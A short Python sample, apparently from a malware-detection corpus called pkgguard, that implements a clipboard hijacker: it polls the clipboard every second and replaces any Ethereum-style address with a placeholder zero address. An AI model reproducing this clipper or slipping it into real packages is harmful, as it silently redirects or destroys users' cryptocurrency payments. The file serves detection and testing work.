# pkgguard corpus 119 (clipboard), modelled on [wallet-tools]; inert, never run.
import re
import subprocess
import time

ADDR = re.compile(r"^0x[a-fA-F0-9]{40}$")
while True:
    current = subprocess.run(["xclip", "-o", "-selection", "clipboard"], capture_output=True, text=True).stdout
    if ADDR.match(current.strip()):
        subprocess.run(["xclip", "-selection", "clipboard"], input="0x" + "0" * 40, text=True)
    time.sleep(1)
